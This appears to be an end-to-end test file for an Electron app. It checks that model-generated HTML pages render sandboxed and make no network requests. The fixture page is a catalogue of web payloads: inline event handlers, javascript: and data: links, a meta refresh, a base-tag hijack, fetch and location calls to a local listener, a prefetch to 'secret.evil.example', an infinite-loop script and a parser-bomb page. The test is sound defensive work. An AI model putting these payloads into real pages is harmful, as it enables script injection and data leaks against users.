/**
 * A page of HTML that a model made is only displayed: it runs no script, sends nothing, looks up no name, and leads
 * nowhere (V10-V13 in faults.md).
 */
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { pathToFileURL } from 'node:url';
import { expect, test } from 'vitest';
import { newId } from '../../electron/host/new-id.ts';
import { saveOutputs } from '../../electron/host/outputs/outputs.ts';
import { openStore } from '../../electron/host/store/open-store.ts';
import { CallId, LoopId } from '../../shared/ids.ts';
import { SEEDED_TOPIC, startApp } from './app.ts';
import { sharedBrowser } from './browser.ts';

const browser = await sharedBrowser();

/** Starts a local server that records the requests it receives. It must receive none. */
async function listener() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('parent.taken = true');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  // The address of a listening TCP server is an object that contains the port.
  const { port } = server.address() as AddressInfo;
  return { heard, url: `http://127.0.0.1:${port}`, [Symbol.dispose]: () => void server.close() };
}

const hostile = (evil: string): string => `<!doctype html>
<html manifest="${evil}/manifest"><head>
<meta http-equiv="refresh" content="0;url=${evil}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="${evil}/" target="_top">
<link rel="stylesheet" href="${evil}/style.css"><link rel="icon" href="${evil}/icon.png">
<link rel="dns-prefetch" href="//secret.evil.example"><link rel="preconnect" href="${evil}"><link rel="prefetch" href="${evil}/prefetch">
<link rel="modulepreload" href="${evil}/module.js">
<style>@import url(${evil}/import.css); body{background:url(${evil}/background.png)} @font-face{font-family:x;src:url(${evil}/font)}
p{background-image:image-set(url(${evil}/set.png) 1x)} .kept{color:rgb(0, 85, 0)}</style>
<script>while(true){}</script>
<script>parent.taken=true;top.taken=true;parent.document.title='taken';fetch('${evil}/fetch');location='${evil}/location';
new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:1'}]}).createDataChannel('x');new Worker('data:,');open('${evil}/open');</script>
<script type="module" src="${evil}/module.js"></script>
</head><body onload="parent.taken=true" background="${evil}/body.png">
<h1 class="kept" style="background:url(${evil}/inline.png)">The page</h1>
<img src="${evil}/image.png" srcset="${evil}/set2.png 2x" onerror="parent.taken=true"><img src="x" onerror="parent.taken=true">
<picture><source srcset="${evil}/source.png"><img alt="a"></picture>
<svg onload="parent.taken=true"><image href="${evil}/svg.png"/><use href="${evil}/use.svg#a"/><a href="javascript:parent.taken=true"><text>x</text></a>
<animate attributeName="href" values="javascript:parent.taken=true"/><script>parent.taken=true</script><style>@import "${evil}/svg.css"</style></svg>
<math><mtext><style><img src=x onerror=parent.taken=true></style></mtext></math>
<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>top.taken=true</script>"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
<form action="${evil}/form"><input name="a" value="b" autofocus onfocus="parent.taken=true"><button formaction="${evil}/button">Send</button></form>
<a href="${evil}/link" ping="${evil}/ping" target="_top">A link</a> <a href="javascript:parent.taken=true">Script</a>
<a href="data:text/html,<script>parent.taken=true</script>">Data</a>
<video src="${evil}/video" poster="${evil}/poster.png" autoplay></video><audio src="${evil}/audio" autoplay></audio>
<table background="${evil}/table.png"><tr><td>Cell</td></tr></table>
<template shadowrootmode="open"><img src="${evil}/shadow.png"></template>
<noscript><img src="${evil}/noscript.png"></noscript>
<div popover id="p">p</div><dialog open>d</dialog>
</body></html>`;

test('a hostile page shows its words and looks, and nothing else happens, in the panel and from disk', async () => {
  using evil = await listener();
  await using app = await startApp(browser);
  await app.stop();
  const store = openStore(app.dataDir, Date.now);
  const [topicId] = store.topics.ids();
  if (topicId === undefined) throw new Error('There is no topic.');
  const call = { topicId, loopId: newId(LoopId), callId: newId(CallId) };
  const name = 'Evil <img src=x onerror=taken=true>';
  await saveOutputs(store.outputs, call, [{ kind: 'document', name, format: 'html', text: hostile(evil.url) }]);
  store.database.close();
  await app.start();

  // The parser reports what it found and did not run.
  const expected = [/Executing inline event handler violates/, /base URI to '.*' violates/];
  const { page } = await app.open({ acceptDownloads: true, expected });
  await page.getByRole('navigation', { name: 'Topics' }).getByRole('button', { name: SEEDED_TOPIC }).first().click();
  await page.getByRole('button', { name: 'Show plan and changes' }).click();
  await page.getByRole('tab', { name: /^Artifacts/ }).click();
  await page.getByRole('list', { name: 'Artifacts' }).getByRole('button').first().click();
  const element = page.locator('iframe[title^="Page "]');
  const frame = element.contentFrame();
  await frame.getByText('The page').waitFor();
  expect(await element.getAttribute('sandbox')).toBe('');
  await frame.getByText('A link').click();
  await frame.getByText('Script').click();
  await frame.getByText('Data').click();
  await frame.getByText('The page').click();
  await sleep(700);
  const dom = (await element.getAttribute('srcdoc')) ?? '';
  expect(dom).not.toContain(evil.url);
  expect(dom).not.toMatch(
    /<(?:script|link|base|iframe|object|embed|form|video|audio|template|source)\b|\son[a-z]+=|javascript:|evil\.example/i,
  );
  expect(dom.match(/<meta [^>]*http-equiv[^>]*>/gi)).toHaveLength(1);
  expect(await page.evaluate('window.taken ?? null')).toBeNull();
  expect(await page.title()).not.toContain('taken');
  expect(evil.heard).toEqual([]);

  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const download = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: 'As this page, without scripts' }).click();
  const file = join(app.root, 'page.html');
  await (await download).saveAs(file);
  expect(await readFile(file, 'utf8')).not.toContain(evil.url);
  const opened = await page.context().newPage();
  const requests: string[] = [];
  opened.on('request', (request) => requests.push(request.url()));
  await opened.goto(pathToFileURL(file).href);
  await opened.getByText('The page').waitFor();
  await opened.getByText('A link').click();
  await sleep(300);
  expect(requests).toEqual([pathToFileURL(file).href]);
  expect(opened.url()).toBe(pathToFileURL(file).href);
  expect(await opened.evaluate('getComputedStyle(document.querySelector("h1")).color')).toBe('rgb(0, 85, 0)');
  expect(evil.heard).toEqual([]);
  expect(app.problems).toEqual([]);
});

/** Elements that a parser repeats in each paragraph, because they are left open. */
const ENDLESS = `${Array.from({ length: 4_000 }, (_, at) => `<b x${at}>`).join('')}${'<p>x'.repeat(20_000)}`;

test('a page that a parser would make millions of elements of is not shown, and the window stays usable', async () => {
  await using app = await startApp(browser);
  await app.stop();
  const store = openStore(app.dataDir, Date.now);
  const [topicId] = store.topics.ids();
  if (topicId === undefined) throw new Error('There is no topic.');
  const call = { topicId, loopId: newId(LoopId), callId: newId(CallId) };
  await saveOutputs(store.outputs, call, [{ kind: 'document', name: 'Endless', format: 'html', text: ENDLESS }]);
  store.database.close();
  await app.start();
  const { page } = await app.open();
  await page.getByRole('navigation', { name: 'Topics' }).getByRole('button', { name: SEEDED_TOPIC }).first().click();
  await page.getByRole('button', { name: 'Show plan and changes' }).click();
  await page.getByRole('tab', { name: /^Artifacts/ }).click();
  await page.getByRole('list', { name: 'Artifacts' }).getByRole('button').first().click();
  await page.getByText('This page has too many elements to be shown.').waitFor();
  await page.getByRole('tab', { name: 'Source' }).click();
  await page.getByRole('group', { name: 'Source of Endless' }).waitFor();
  expect(app.problems).toEqual([]);
});
